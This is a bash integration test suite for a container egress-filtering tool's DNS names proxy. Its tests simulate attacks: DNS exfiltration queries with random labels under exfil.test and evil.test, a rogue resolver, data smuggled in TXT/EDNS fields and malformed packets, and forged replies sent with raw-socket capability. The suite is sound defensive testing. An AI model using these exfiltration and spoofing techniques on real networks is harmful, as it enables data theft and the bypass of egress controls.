#!/usr/bin/env bash
# Names in the allow-list ("api.example.test tcp/8080", "*.cdn.example.test tcp/8080"), with a real
# DNS server in the lab (tests/integration/helpers/dns_server.py, python3-dnslib) on lan (the
# container's resolver) and on wan (another resolver the container may try):
#   - an allowed name resolves, over UDP and TCP, A and AAAA, also through a CNAME; its addresses
#     are reachable on the allowed port only, and not before the name was resolved;
#   - every other name is answered REFUSED inside the namespace: random labels under a forbidden
#     domain (exfiltration), asked of either resolver, UDP and TCP, v4 and v6, never reach them
#     (their query logs prove it); the names proxy's log records the names asked;
#   - rotating answers with TTL 1 under a resolve-then-connect loop: zero first connections
#     refused (IPv4 and IPv6);
#   - an established connection survives its address's expiry (the element removed), while a
#     new connection to the expired address is refused;
#   - the names proxy killed: nothing resolves, nothing new opens; restarted: names resolve again;
#   - release stops it and removes everything; a namespace that dies takes its proxy with it.
# And the attacks on the proxy itself (each with a control showing the technique works without
# the defence):
#   - the container chooses the resolver: an allowed name asked of an attacker's server on wan
#     (which answers every A with wan's own address) never reaches it, is answered by the trusted
#     resolver, and wan's address never enters names4 (as root and with no capability);
#   - data in the query (an additional TXT record, an EDNS option, trailing bytes) never reaches
#     the resolver (its raw log);
#   - forged answers (Docker's default capabilities, CAP_NET_RAW) into the proxy's upstream socket,
#     and a forged reply to any established flow of the namespace through lo: never delivered;
#   - --resolver and the container's resolv.conf decide the trusted resolvers (status shows them).
source "$(dirname "${BASH_SOURCE[0]}")/lib.sh"
require_tools jq nft ss
PY=/usr/bin/python3 # Debian's, with python3-dnslib
if ! $PY -c 'import dnslib' 2>/dev/null; then
	echo "FAIL: python3-dnslib is missing (run testenv/bootstrap.sh)"
	exit 1
fi
setup_lab

HELPERS=$REPO/tests/integration/helpers
STATE=$(lab_state_dir "$P")
LAN4=$LAB_LAN4 LAN6=$LAB_LAN6 WAN4=$LAB_WAN4 WAN6=$LAB_WAN6
PORT=$LAB_TCP_PORT
LAN_DNS_LOG=$STATE/lan.dns.log WAN_DNS_LOG=$STATE/wan.dns.log
LAN_RAW_LOG=$STATE/lan.raw.log EVIL_DNS_LOG=$STATE/evil.dns.log
: >"$LAN_DNS_LOG"
: >"$WAN_DNS_LOG"
: >"$LAN_RAW_LOG"
: >"$EVIL_DNS_LOG"
# The attacker's resolver: on wan (forbidden), every A/AAAA question answered with wan's own
# address, every query logged.
EVIL4=198.51.100.53 EVIL6=2001:db8:2::53
ip -n "${P}_wan" addr add "$EVIL4/24" dev eth0
ip -n "${P}_wan" addr add "$EVIL6/64" dev eth0 nodad
# A trusted resolver that never answers (the forged-answer attack needs the proxy waiting).
SILENT4=192.168.1.98
ip -n "${P}_lan" addr add "$SILENT4/24" dev eth0
DOCKER_CAPS=chown,dac_override,fowner,fsetid,kill,setgid,setuid,setpcap,net_bind_service,net_raw,sys_chroot,mknod,audit_write,setfcap
docker_caps() { in_ctr setpriv --bounding-set "-all,+${DOCKER_CAPS//,/,+}" --inh-caps -all --no-new-privs "$@"; }
no_caps() {
	in_ctr setpriv --reuid 65534 --regid 65534 --clear-groups --bounding-set -all --inh-caps -all --no-new-privs "$@"
}
ATK=$HELPERS/dns_attack.py
hexof() { printf '%s' "$1" | od -An -tx1 | tr -d ' \n'; }

# The rotating addresses: ten more on lan (its listeners bind every address).
for i in $(seq 20 29); do
	ip -n "${P}_lan" addr add "192.168.1.$i/24" dev eth0
	ip -n "${P}_lan" addr add "2001:db8:1::$i/64" dev eth0 nodad
done

ZONE=(
	"api.example.test=4:$LAN4,6:$LAN6"
	"alias.example.test=cname:api.example.test"
	"a.cdn.example.test=4:192.168.1.21"
	"a.b.cdn.example.test=4:192.168.1.22"
	"cdn.example.test=4:192.168.1.23"
	"rot.example.test=rot4:192.168.1.20-29,rot6:2001:db8:1::20-29"
	"short.example.test=4:192.168.1.24"
	"forbidden.example.test=4:$WAN4"
)
start_dns() { # NODE LOG [OPTION...] -- ADDR...
	local node=$1 log=$2
	shift 2
	local opts=()
	while [[ $1 != -- ]]; do
		opts+=("$1")
		shift
	done
	shift
	local binds=()
	for a in "$@"; do binds+=(--bind "$a"); done
	bg_in_ns "${P}_$node" "$PY" "$HELPERS/dns_server.py" --log "$log" --ttl 5 "${opts[@]}" "${binds[@]}" "${ZONE[@]}"
	local pid=$!
	on_exit "kill $pid 2>/dev/null"
}
start_dns lan "$LAN_DNS_LOG" --raw-log "$LAN_RAW_LOG" -- "$LAN4" "$LAN6"
start_dns wan "$WAN_DNS_LOG" -- "$WAN4" "$WAN6"
start_dns wan "$EVIL_DNS_LOG" --any-a "$WAN4" --any-aaaa "$WAN6" -- "$EVIL4" "$EVIL6"
bg_in_ns "${P}_lan" "$PY" -c "import socket,time
s=socket.socket(socket.AF_INET,socket.SOCK_DGRAM); s.bind(('$SILENT4',53)); time.sleep(3600)"
SILENT_PID=$!
on_exit "kill $SILENT_PID 2>/dev/null"
dns_listening() { [[ -n $(lab_exec "$P" "$1" ss -Hln "sport = :53") ]]; }
evil_listening() { [[ -n $(lab_exec "$P" wan ss -Hln "src $EVIL4 and sport = :53") ]]; }
assert_true "the lan DNS server listens" eventually dns_listening lan
assert_true "the wan DNS server listens" eventually dns_listening wan
assert_true "the attacker's DNS server listens" eventually evil_listening

# q SERVER NAME TYPE [--tcp]: from ctr; "NOERROR addr..." / "REFUSED" / "NXDOMAIN" / "TIMEOUT" ...
q() { in_ctr "$PY" "$HELPERS/dns_client.py" query "$@"; }
# conn HOST PORT: TCP connect from ctr; "ok" or the errno name.
conn() {
	in_ctr "$PY" - "$@" <<'EOF'
import errno, socket, sys
host, port = sys.argv[1], int(sys.argv[2])
s = socket.socket(socket.AF_INET6 if ":" in host else socket.AF_INET, socket.SOCK_STREAM)
s.settimeout(3)
try:
    s.connect((host, port)); print("ok")
except socket.timeout:
    print("timeout")
except OSError as e:
    print(errno.errorcode.get(e.errno, str(e.errno)))
EOF
}
udp() { # HOST PORT: one datagram; "sent" or the errno name
	in_ctr "$PY" -c 'import errno,socket,sys
h,p=sys.argv[1],int(sys.argv[2]); s=socket.socket(socket.AF_INET6 if ":" in h else socket.AF_INET, socket.SOCK_DGRAM)
try:
    s.sendto(b"x\n",(h,p)); print("sent")
except OSError as e:
    print(errno.errorcode.get(e.errno,str(e.errno)))' "$@"
}
REFUSED='^(EPERM|EACCES|EHOSTUNREACH|ENETUNREACH)$'
NAMES=(--resolver "$LAN4" --resolver "$LAN6" --allow "api.example.test tcp/$PORT" --allow "alias.example.test tcp/$PORT"
	--allow "*.cdn.example.test tcp/$PORT" --allow "rot.example.test tcp/$PORT"
	--allow "short.example.test tcp/$PORT")
proxy_pid() { nsg status --netns "$CTR_NS" --json | jq -r '.names.proxy_pid // empty'; }

section "control: without a policy the resolvers answer every name, and log it"
assert_eq NXDOMAIN "$(q "$LAN4" "control-$$.exfil.test" A)" "lan resolver answers a made-up name"
assert_true "lan resolver logged it" wait_for_text "$LAN_DNS_LOG" "control-$$.exfil.test"
assert_eq NXDOMAIN "$(q "$WAN6" "control6-$$.exfil.test" A --tcp)" "wan resolver answers over TCP/IPv6"
assert_true "wan resolver logged it" wait_for_text "$WAN_DNS_LOG" "control6-$$.exfil.test"
assert_eq "NOERROR 192.168.1.24" "$(q "$LAN4" short.example.test A)" "a name resolves"
assert_eq "NOERROR $WAN4" "$(q "$EVIL4" api.example.test A)" "control: the attacker's resolver says api.example.test is wan"
assert_true "control: the attacker's resolver logged it" wait_for_text "$EVIL_DNS_LOG" "api.example.test"
assert_eq ok "$(conn "$WAN4" "$PORT")" "control: wan's TCP port answers without a policy"
SECRET_CONTROL="A3-SECRET-CONTROL-$$"
assert_match "$(in_ctr "$PY" "$ATK" extra "$LAN4" api.example.test "$SECRET_CONTROL")" "^NOERROR $LAN4$" \
	"control: a query carrying data in TXT, EDNS and trailing bytes"
assert_true "control: the data reached the resolver" grep -q "$(hexof "$SECRET_CONTROL")" "$LAN_RAW_LOG"
assert_eq delivered "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
	"control: a forged reply through lo to a flow of the namespace is delivered without a policy"

section "bad name entries are refused with one line"
for bad in "*.com tcp/80" "a.*.example.test" "exa_mple..test" "api.example.test icmp" "-bad.example.test" \
	"1.2.3" "single"; do
	expect_exit 1 nsg restrict --netns "$CTR_NS" --allow "$bad" --no-probe
	assert_eq 1 "$(wc -l <<<"$ERR")" "'$bad': one line of error"
done

section "restrict with names"
expect_exit 0 nsg restrict --netns "$CTR_NS" "${NAMES[@]}" --no-probe --json
assert_eq true "$(jq -r .names.enabled <<<"$OUT")" "restrict reports names enabled"
assert_eq names "$(jq -r .route_set.disabled_by <<<"$OUT")" "the route set is left out with names (documented)"
PID1=$(jq -r .names.proxy_pid <<<"$OUT")
assert_true "the names proxy runs (pid $PID1)" test -d "/proc/$PID1"
assert_eq "$(stat -L -c %i "$CTR_NS")" "$(stat -L -c %i "/proc/$PID1/ns/net")" "the proxy lives in the container's namespace"
assert_match "$(conn "$LAN4" "$PORT")" "$REFUSED" "before any answer, the name's address is refused"
assert_eq "$LAN4 $LAN6" "$(jq -r '.names.resolvers | join(" ")' <<<"$OUT")" "restrict reports the trusted resolvers"
ST=$(nsg status --netns "$CTR_NS" --json)
assert_eq "$LAN4 $LAN6" "$(jq -r '.names.resolvers | join(" ")' <<<"$ST")" "status shows the trusted resolvers"
assert_eq operator "$(jq -r '.names.resolvers_from' <<<"$ST")" "status says they came from the operator"

section "the container does not choose the resolver (attacker's server on wan)"
evil_before=$(wc -l <"$EVIL_DNS_LOG")
assert_eq "NOERROR $LAN4" "$(q "$EVIL4" api.example.test A)" "asked of the attacker's server: the trusted resolver's answer"
assert_eq "NOERROR $LAN6" "$(q "$EVIL6" api.example.test AAAA --tcp)" "the same over TCP/IPv6"
assert_eq "NOERROR $LAN4" "$(no_caps "$PY" "$HELPERS/dns_client.py" query "$EVIL4" api.example.test A)" \
	"the same from a process with no capability"
assert_eq "NOERROR $LAN4" "$(q 8.8.8.8 api.example.test A)" "a hard-coded public resolver is answered transparently"
assert_eq "$evil_before" "$(wc -l <"$EVIL_DNS_LOG")" "not one query reached the attacker's server"
names4=$(in_ctr nft list set inet nsegress names4)
names6=$(in_ctr nft list set inet nsegress names6)
assert_false "wan's address is not in names4" grep -qF "$WAN4 " <<<"$names4"
assert_false "wan's address is not in names6" grep -qF "$WAN6 " <<<"$names6"
assert_match "$(conn "$WAN4" "$PORT")" "$REFUSED" "a TCP connect to wan is refused"
assert_match "$(no_caps "$PY" "$HELPERS/dns_client.py" query "$EVIL4" "exfil-$$.evil.test" TXT)" "^REFUSED$" \
	"a name outside the policy asked of the attacker's server: REFUSED"
PLOG=$(jq -r '.names.log' <<<"$ST")
assert_true "the proxy logs where the query was addressed and which resolver answered" \
	grep -q "\"addressed_to\":\"$EVIL4\".*\"resolver\":\"$LAN4\"" "$PLOG"

section "data in the query never reaches the resolver"
SECRET="A3-SECRET-PAYLOAD-$$"
raw_before=$(wc -l <"$LAN_RAW_LOG")
assert_match "$(no_caps "$PY" "$ATK" extra "$LAN4" api.example.test "$SECRET")" "^NOERROR $LAN4$" \
	"a query carrying data in TXT, EDNS and trailing bytes is answered"
assert_true "the resolver got a query" test "$(wc -l <"$LAN_RAW_LOG")" -gt "$raw_before"
assert_false "none of its data reached the resolver" grep -q "$(hexof "$SECRET")" "$LAN_RAW_LOG"
last=$(tail -1 "$LAN_RAW_LOG" | cut -d' ' -f2)
# 12 header + api.example.test (18) + type/class (4) + OPT (11): exactly our query
assert_eq $(((12 + 18 + 4 + 11) * 2)) "${#last}" "what arrived is the one question and a bare OPT record"
tricks=$(in_ctr "$PY" - "$LAN4" <<'EOF'
import socket, struct, sys
def enc(labels): return b"".join(bytes([len(l)]) + l for l in labels) + b"\0"
def q(wire, qd=1, extra=b""): return struct.pack("!HHHHHH", 0x1111, 0x0100, qd, 0, 0, 0) + wire + struct.pack("!HH", 1, 1) + extra
cases = {
    "escaped-dot": q(enc([b"api.example", b"test"])),
    "nul": q(enc([b"api\0", b"example", b"test"])),
    "two-questions": q(enc([b"api", b"example", b"test"]), qd=2, extra=enc([b"leak1", b"evil", b"test"]) + struct.pack("!HH", 1, 1)),
    "qd0": q(enc([b"leak2", b"evil", b"test"]), qd=0),
}
for name, pkt in cases.items():
    s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(3)
    s.sendto(pkt, (sys.argv[1], 53))
    try:
        r = s.recv(4096); print(name, "rcode", r[3] & 15, "an", struct.unpack("!H", r[6:8])[0])
    except Exception as e:
        print(name, e)
EOF
)
echo "$tricks" | sed 's/^/#   /'
assert_eq 4 "$(grep -cE ' rcode (1|5) an 0$' <<<"$tricks")" "a dot or NUL inside a label, two questions, none: REFUSED or FORMERR, no answer"
assert_false "none of them reached the resolver as a name" grep -qE 'api\.example test|leak1|leak2' "$LAN_DNS_LOG"

section "an allowed name resolves and opens its addresses on its ports only"
assert_eq "NOERROR $LAN4" "$(q "$LAN4" api.example.test A)" "A over UDP/IPv4"
assert_eq ok "$(conn "$LAN4" "$PORT")" "then TCP $LAN4:$PORT connects"
assert_match "$(conn "$LAN4" $((PORT + 1)))" "$REFUSED" "another TCP port of the address is refused"
assert_match "$(udp "$LAN4" "$LAB_UDP_PORT")" "$REFUSED" "UDP to the address is refused"
assert_eq "NOERROR $LAN6" "$(q "$LAN6" api.example.test AAAA --tcp)" "AAAA over TCP/IPv6"
assert_eq ok "$(conn "$LAN6" "$PORT")" "then TCP [$LAN6]:$PORT connects"
assert_eq "NOERROR $LAN4" "$(q "$LAN4" alias.example.test A)" "a CNAME chain resolves to its end"
assert_eq "NOERROR 192.168.1.21" "$(q "$WAN4" a.cdn.example.test A)" "the wildcard's one label, asked of the wan resolver"
assert_eq ok "$(conn 192.168.1.21 "$PORT")" "then its address connects"
assert_match "$(conn "$WAN4" "$PORT")" "$REFUSED" "the resolver's own address stays refused"
elements=$(in_ctr nft list set inet nsegress names4)
assert_contains "$elements" "192.168.1.21 . tcp . $PORT" "names4 holds the wildcard's address for tcp/$PORT"
assert_match "$elements" "timeout 1m(3[0-9]|[0-2][0-9])s|timeout 1m30s" "with the documented lifetime (TTL 5 s: floor 30 s + grace 60 s)"

section "every other name: REFUSED in the namespace, never seen by a resolver"
for name in a.b.cdn.example.test cdn.example.test forbidden.example.test example.test; do
	assert_eq REFUSED "$(q "$LAN4" "$name" A)" "$name: REFUSED"
done
assert_eq REFUSED "$(q "$LAN6" forbidden.example.test AAAA --tcp)" "forbidden name over TCP/IPv6: REFUSED"
: >"$TMPD/labels"
for i in $(seq 1 40); do
	label=$(head -c 12 /dev/urandom | od -An -tx1 | tr -d ' \n')
	echo "$label" >>"$TMPD/labels"
	for server in "$LAN4" "$WAN4" "$LAN6" "$WAN6"; do
		tcp=()
		((i % 2)) && tcp=(--tcp)
		r=$(q "$server" "$label.exfil.test" TXT "${tcp[@]}")
		[[ $r == REFUSED ]] || echo "exfil $label via $server ${tcp[*]}: $r" >>"$TMPD/exfil.bad"
	done
done
assert_false "160 exfiltration queries (random labels, both resolvers, UDP and TCP, v4 and v6) all REFUSED" \
	test -s "$TMPD/exfil.bad"
[[ -s $TMPD/exfil.bad ]] && head -5 "$TMPD/exfil.bad" | sed 's/^/#   /'
assert_false "no random label reached the lan resolver" grep -qFf "$TMPD/labels" "$LAN_DNS_LOG"
assert_false "no random label reached the wan resolver" grep -qFf "$TMPD/labels" "$WAN_DNS_LOG"
assert_false "forbidden.example.test never reached a resolver" grep -q "forbidden.example.test" "$LAN_DNS_LOG" "$WAN_DNS_LOG"
LOG=$(nsg status --netns "$CTR_NS" --json | jq -r '.names.log // empty')
assert_true "the proxy's log records a refused exfiltration name" grep -qF "$(head -1 "$TMPD/labels").exfil.test" "$LOG"
assert_true "the proxy's log says refused" grep -q '"verdict":"refused"' "$LOG"
assert_match "$(q "$LAN4" short.example.test A)" "^NOERROR 192.168.1.24$" "an allowed name still resolves after the attack"

section "watch shows the names asked"
nsg watch --netns "$CTR_NS" --json --duration 3 >"$TMPD/watch.json" 2>/dev/null &
W=$!
while [[ -d /proc/$W ]]; do
	q "$LAN4" "watched-$$.example.test" A >/dev/null
	sleep 0.2
done
wait "$W"
assert_true "watch --json has a refused name event for the asked name" \
	grep -q "\"event\":\"name\".*\"name\":\"watched-$$.example.test\".*\"verdict\":\"refused\"" "$TMPD/watch.json"

section "verify resolves a name entry as the container would, and probes the answer"
OUT=$(nsg verify --netns "$CTR_NS" --allow "api.example.test tcp/$PORT" --resolver "$LAN4" --json 2>"$TMPD/verify.err")
[[ -s $TMPD/verify.err ]] && sed "s/^/#   verify: /" "$TMPD/verify.err"
assert_eq pass "$(jq -r '.checks[] | select(.name == "name api.example.test") | .status' <<<"$OUT")" \
	"verify: name api.example.test resolves, its addresses connect, another name is REFUSED"
assert_contains "$(jq -r '.checks[] | select(.name == "name api.example.test") | .detail' <<<"$OUT")" "REFUSED" "verify says a name outside the policy is REFUSED"

section "watch --summary suggests names, not bare addresses"
nsg watch --netns "$CTR_NS" --summary --duration 3 >"$TMPD/summary" 2>/dev/null &
W=$!
while [[ -d /proc/$W ]]; do
	conn "$LAN4" $((PORT + 1)) >/dev/null # refused: an address api.example.test's answer gave, another port
	sleep 0.2
done
wait "$W"
summary=$(<"$TMPD/summary")
assert_contains "$summary" "api.example.test tcp/$PORT" "the policy's name entries are kept"
assert_match "$summary" "#- api\.example\.test tcp/$((PORT + 1)) " "the refused address is suggested as its name"
assert_match "$summary" "#- forbidden\.example\.test +# asked [0-9]+ time" "a refused name is suggested, commented out"

section "rotating answers, TTL 1: resolve then connect, zero first connections refused"
CYCLES4=${NAMES_CYCLES:-2000} CYCLES6=${NAMES_CYCLES:-1000}
out=$(in_ctr "$PY" "$HELPERS/dns_client.py" loop "$LAN4" rot.example.test A "$PORT" "$CYCLES4")
summary=$(tail -1 <<<"$out")
echo "# IPv4: $summary"
assert_match "$summary" "^cycles=$CYCLES4 first_failures=0 unresolved=0 addresses=10$" "IPv4: $CYCLES4 cycles over 10 rotating addresses"
[[ $summary == *first_failures=0\ unresolved=0* ]] || head -5 <<<"$out" | sed 's/^/#   /'
out=$(in_ctr "$PY" "$HELPERS/dns_client.py" loop "$LAN6" rot.example.test AAAA "$PORT" "$CYCLES6")
summary=$(tail -1 <<<"$out")
echo "# IPv6: $summary"
assert_match "$summary" "^cycles=$CYCLES6 first_failures=0 unresolved=0 addresses=10$" "IPv6: $CYCLES6 cycles over 10 rotating addresses"
[[ $summary == *first_failures=0\ unresolved=0* ]] || head -5 <<<"$out" | sed 's/^/#   /' 

section "an established connection outlives its address's expiry"
assert_eq "NOERROR 192.168.1.24" "$(q "$LAN4" short.example.test A)" "short.example.test resolves"
TCP_LOG=$(lab_log "$P" lan tcp)
mark="established-$$"
rm -f "$TMPD/go"
in_ctr "$PY" - 192.168.1.24 "$PORT" "$mark" "$TMPD/go" >"$TMPD/held.out" 2>&1 <<'EOF' &
import os, socket, sys, time
host, port, mark, go = sys.argv[1], int(sys.argv[2]), sys.argv[3], sys.argv[4]
s = socket.create_connection((host, port), timeout=5)
s.sendall(f"{mark}-before\n".encode())
print("connected", flush=True)
for _ in range(500):
    if os.path.exists(go):
        break
    time.sleep(0.02)
s.sendall(f"{mark}-after\n".encode())
time.sleep(0.2)
s.close()
print("sent", flush=True)
EOF
HELD=$!
assert_true "the connection is open" wait_for_text "$TCP_LOG" "$mark-before" 5
# Expiry: the element goes, exactly as the kernel removes it when its timeout runs out.
in_ctr nft flush set inet nsegress names4
assert_false "names4 is empty (expired)" grep -q "192.168.1.24" <<<"$(in_ctr nft list set inet nsegress names4)"
assert_match "$(conn 192.168.1.24 "$PORT")" "$REFUSED" "a new connection to the expired address is refused"
touch "$TMPD/go"
wait "$HELD"
assert_true "the established connection still delivers after expiry" wait_for_text "$TCP_LOG" "$mark-after" 5

section "an answer the kernel already covers needs no commit; an element it lost is restored"
# nft prints durations as 1m29s960ms: milliseconds.
dur_ms() {
	local s=$1 t=0 n
	while [[ $s =~ ^([0-9]+)(ms|d|h|m|s)(.*)$ ]]; do
		n=${BASH_REMATCH[1]}
		case ${BASH_REMATCH[2]} in
		d) t=$((t + n * 86400000)) ;; h) t=$((t + n * 3600000)) ;; m) t=$((t + n * 60000)) ;;
		s) t=$((t + n * 1000)) ;; ms) t=$((t + n)) ;;
		esac
		s=${BASH_REMATCH[3]}
	done
	echo "$t"
}
# The milliseconds until short.example.test's element expires (empty: no such element).
short_expires() {
	local e
	e=$(in_ctr nft list set inet nsegress names4 | grep -o "192\.168\.1\.24 \. tcp \. $PORT timeout [0-9dhms]* expires [0-9dhms]*") || return 0
	dur_ms "${e##* expires }"
}
assert_eq "NOERROR 192.168.1.24" "$(q "$LAN4" short.example.test A)" "after the expiry the name resolves again"
e1=$(short_expires)
assert_true "and its element is back (the proxy asks the kernel, not its memory): ${e1:-none} ms left" test "${e1:-0}" -gt 60000
sleep 2
assert_eq "NOERROR 192.168.1.24" "$(q "$LAN4" short.example.test A)" "resolved again 2 s later"
e2=$(short_expires)
assert_true "the element was left alone, no commit (${e1:-none} ms, then ${e2:-none} ms)" test "${e2:-0}" -gt 0 -a "${e2:-0}" -le $((e1 - 1500))
assert_eq ok "$(conn 192.168.1.24 "$PORT")" "and the address connects"
# An element about to expire (set by hand, as an observer) does not cover an answer: refreshed.
in_ctr nft delete element inet nsegress names4 "{ 192.168.1.24 . tcp . $PORT }"
in_ctr nft add element inet nsegress names4 "{ 192.168.1.24 . tcp . $PORT timeout 10s }"
e3=$(short_expires)
assert_true "the element now expires in ${e3:-none} ms" test "${e3:-0}" -gt 0 -a "${e3:-0}" -le 10000
assert_eq "NOERROR 192.168.1.24" "$(q "$LAN4" short.example.test A)" "resolved once more"
e4=$(short_expires)
assert_true "an element expiring before the answer's cache does is refreshed (${e4:-none} ms left)" test "${e4:-0}" -gt 60000

section "the names proxy killed: fail closed; restarted: names resolve again"
PID=$(proxy_pid)
assert_match "$PID" '^[0-9]+$' "status names the proxy's pid"
kill -KILL "$PID"
assert_true "the proxy is gone" eventually test ! -d "/proc/$PID"
before=$(wc -l <"$LAN_DNS_LOG")
r=$(q "$LAN4" api.example.test A)
assert_match "$r" '^(ECONNREFUSED|TIMEOUT)$' "an allowed name does not resolve while the proxy is down ($r)"
r=$(q "$LAN4" api.example.test A --tcp)
assert_match "$r" '^(ECONNREFUSED|TIMEOUT|CLOSED|ECONNRESET)$' "nor over TCP ($r)"
assert_eq "$before" "$(wc -l <"$LAN_DNS_LOG")" "nothing reached the resolver meanwhile"
assert_match "$(conn "$WAN4" "$PORT")" "$REFUSED" "the forbidden host stays refused"
assert_match "$(conn 192.168.1.25 "$PORT")" "$REFUSED" "an address never answered stays refused"
STATE_FILE=$(ls /run/nsegress/names-*-"$(stat -L -c %i "$CTR_NS")".json 2>/dev/null | head -1)
assert_true "the state file survived the kill" test -f "$STATE_FILE"
# What a supervisor (share/systemd/nsegress-names.service) does: start it again from its state.
ip netns exec "${P}_gw" "$NSEGRESS" names-proxy --state "$STATE_FILE" >/dev/null 2>"$TMPD/proxy.err" &
RESTARTED=$!
on_exit "kill $RESTARTED 2>/dev/null"
restarted() { [[ $(q "$LAN4" api.example.test A) == "NOERROR $LAN4" ]]; }
assert_true "after the restart the allowed name resolves" eventually restarted
assert_eq REFUSED "$(q "$LAN4" forbidden.example.test A)" "and other names are REFUSED"

section "a supervisor (nsegress names-supervise) restarts a proxy that died"
ip netns exec "${P}_gw" "$NSEGRESS" names-supervise --state "$STATE_FILE" >/dev/null 2>"$TMPD/supervise.err" &
SUPERVISOR=$!
on_exit "kill $SUPERVISOR 2>/dev/null"
kill -KILL "$RESTARTED"
wait "$RESTARTED" 2>/dev/null
new_proxy() { local p; p=$(proxy_pid); [[ -n $p && $p != "$RESTARTED" ]]; }
assert_true "a new proxy runs" eventually new_proxy
assert_true "the allowed name resolves again" eventually restarted
assert_eq REFUSED "$(q "$LAN4" forbidden.example.test A)" "other names are still REFUSED"
LAST=$(proxy_pid)

section "release stops the proxy and removes everything"
expect_exit 0 nsg release --netns "$CTR_NS" --json
assert_eq true "$(jq -r .removed_names_proxy <<<"$OUT")" "release reports the proxy stopped"
assert_true "the proxy is gone" eventually test ! -d "/proc/$LAST"
sleep 1.5 # the supervisor's next round: it must not start one again (the state is gone)
assert_eq "" "$(proxy_pid)" "the supervisor did not restart it after release"
assert_eq "" "$(nft_table)" "no table left"
assert_false "no state file left" test -e "$STATE_FILE"
assert_eq NXDOMAIN "$(q "$LAN4" "after-release-$$.exfil.test" A)" "DNS goes straight to the resolver again"

section "forged answers into the proxy's upstream socket (Docker's default capabilities)"
assert_eq delivered "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
	"control: with no policy a forged reply through lo reaches an established flow's socket"
assert_eq delivered "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR6" "$LAN6" "$LAB_UDP_PORT")" \
	"control: the same over IPv6"
FORGE_POLICY=(--resolver "$SILENT4" --allow "api.example.test tcp/$PORT" --allow "$LAN4 udp/$LAB_UDP_PORT"
	--allow "$LAN6 udp/$LAB_UDP_PORT" --no-probe --json)
expect_exit 0 nsg restrict --netns "$CTR_NS" "${FORGE_POLICY[@]}"
forged_count() { nsg status --netns "$CTR_NS" --json | jq -r '.policy.counters.forged_source.packets'; }
f0=$(forged_count)
assert_eq nothing "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
	"a forged reply through lo to an established flow is not delivered"
assert_eq nothing "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR6" "$LAN6" "$LAB_UDP_PORT")" \
	"nor over IPv6"
out=$(docker_caps "$PY" "$ATK" forge "$SILENT4" "$WAN4" api.example.test)
echo "$out" | sed 's/^/#   /'
assert_match "$out" "upstream [0-9]+ forged 2049 dropped 2049" "the proxy's upstream socket was found; all 2049 answers forged to it were dropped on the way out"
assert_false "the client never got wan's address" grep -qF "$WAN4" <<<"$(grep client: <<<"$out")"
assert_false "wan's address never entered names4" grep -qF "$WAN4 " <<<"$(in_ctr nft list set inet nsegress names4)"
assert_match "$(conn "$WAN4" "$PORT")" "$REFUSED" "a TCP connect to wan is refused"
f1=$(forged_count)
assert_true "the forged-source counter counted them ($f0 -> $f1)" test "$f1" -ge $((f0 + 2049))
expect_exit 0 nsg restrict --netns "$CTR_NS" --audit "${FORGE_POLICY[@]}"
assert_eq nothing "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
	"audit mode: a forged reply through lo is not delivered either"
assert_eq nothing "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR6" "$LAN6" "$LAB_UDP_PORT")" \
	"audit mode: nor over IPv6"
# Without the rule (deleted here by hand, as an observer) the forgery is delivered: the test can fail.
h=$(in_ctr nft -a list chain inet nsegress output | grep 'oif "lo" fib saddr type != local' | sed -n 's/.*# handle //p')
assert_match "$h" '^[0-9]+$' "the rule is in the output chain"
in_ctr nft delete rule inet nsegress output handle "$h"
assert_eq delivered "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR4" "$LAN4" "$LAB_UDP_PORT")" \
	"control: without that rule the forged reply is delivered"
assert_eq delivered "$(docker_caps "$PY" "$ATK" canary "$LAB_CTR6" "$LAN6" "$LAB_UDP_PORT")" \
	"control: over IPv6 too"

section "the trusted resolvers come from the container's resolv.conf when none is given"
printf 'search example.test\nnameserver %s\nnameserver 127.0.0.53\n' "$LAN4" >"$TMPD/resolv.conf"
rm -f "$TMPD/mounted"
bg_in_ctr unshare -m --propagation private sh -c "mount --bind '$TMPD/resolv.conf' /etc/resolv.conf && touch '$TMPD/mounted' && exec sleep 300"
RPID=$!
on_exit "kill $RPID 2>/dev/null"
assert_true "a process of the container with its own resolv.conf" eventually test -e "$TMPD/mounted"
in_resolv() { grep -q "127.0.0.53" "/proc/$RPID/root/etc/resolv.conf" 2>/dev/null; }
assert_true "its resolv.conf is the test's" eventually in_resolv
expect_exit 0 nsg restrict --pid "$RPID" --allow "api.example.test tcp/$PORT" --no-probe --json
assert_eq "resolv.conf $LAN4" "$(jq -r '.names.resolvers_from + " " + (.names.resolvers | join(" "))' <<<"$OUT")" \
	"the nameserver of its resolv.conf is trusted"
assert_eq "127.0.0.53" "$(jq -r '.names.resolvers_not_trusted | join(" ")' <<<"$OUT")" \
	"its loopback nameserver is not (a running container may run it itself)"
assert_eq "NOERROR $LAN4" "$(q "$EVIL4" api.example.test A)" "a query to the attacker's server is answered by it"
assert_eq "$evil_before" "$(wc -l <"$EVIL_DNS_LOG")" "and never reaches the attacker's server"
ST=$(nsg status --netns "$CTR_NS" --json)
assert_eq "resolv.conf $LAN4" "$(jq -r '.names.resolvers_from + " " + (.names.resolvers | join(" "))' <<<"$ST")" \
	"status shows them"
expect_exit 0 nsg restrict --pid "$RPID" --resolver 127.0.0.53 --allow "api.example.test tcp/$PORT" --no-probe --json
assert_eq "operator 127.0.0.53" "$(jq -r '.names.resolvers_from + " " + (.names.resolvers | join(" "))' <<<"$OUT")" \
	"--resolver wins, a loopback one too"
expect_exit 0 nsg release --netns "$CTR_NS" --json

section "the OCI hook starts the names proxy too (the runtime wrapper goes through it)"
# (CNI ADD and the runtime wrapper restrict through the same path: cmd_restrict.)
state='{"ociVersion":"1.0.2","id":"names-hook","status":"creating","pid":'$RPID',"bundle":"/nonexistent"}'
DESC="hook with a name entry" expect_exit 0 nsg hook --allow "api.example.test tcp/$PORT" --resolver "$LAN4" --json <<<"$state"
assert_match "$(proxy_pid)" '^[0-9]+$' "the hook started the names proxy"
